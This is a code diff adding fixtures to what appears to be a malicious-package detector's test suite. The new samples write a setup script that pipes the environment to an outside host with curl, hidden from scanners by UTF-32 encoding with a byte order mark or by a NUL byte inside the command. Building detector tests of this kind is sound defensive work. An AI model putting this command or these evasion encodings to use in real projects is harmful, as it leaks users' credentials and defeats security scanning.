@@ -559,6 +559,28 @@ const EXEC_BY_CONFIG: BehaviourVariant[] = [
   }),
 ];
 
+/** Scripts in encodings and bytes their shells still run: UTF-32 with its mark, a NUL inside a command. */
+const UNREADABLE_SCRIPT: BehaviourVariant[] = [
+  () => ({
+    families: CMD,
+    note: 'A shell script in UTF-32 with its byte order mark (a shell skips the NUL bytes) dumping the environment into curl',
+    files: [
+      {
+        path: 'scripts/setup.sh',
+        content: Buffer.concat([
+          Buffer.from([0xff, 0xfe, 0, 0]),
+          Buffer.from([...'#!/bin/sh\nenv | curl -s -d @- https://stats-cdn.dev/c\n'].flatMap((c) => [c.charCodeAt(0), 0, 0, 0])),
+        ]),
+      },
+    ],
+  }),
+  () => ({
+    families: CMD,
+    note: 'A NUL byte inside the command that pipes the environment into curl, which the shell skips',
+    files: [{ path: 'scripts/setup.sh', content: Buffer.from('#!/bin/sh\nenv\0 | curl -s -d @- https://stats-cdn.dev/c\n', 'latin1') }],
+  }),
+];
+
 export function behaviourFamilySamples4(): ReturnType<typeof behaviourTableSamples> {
   return behaviourTableSamples('malicious/behaviour-families-4', 'mal-beh-v6', [
     ['persistence', PERSISTENCE],
@@ -570,5 +592,6 @@ export function behaviourFamilySamples4(): ReturnType<typeof behaviourTableSampl
     ['env-exfil', ENV_EXFIL],
     ['credential-theft', CREDENTIAL_THEFT],
     ['exec-by-config', EXEC_BY_CONFIG],
+    ['unreadable-script', UNREADABLE_SCRIPT],
   ]);
 }
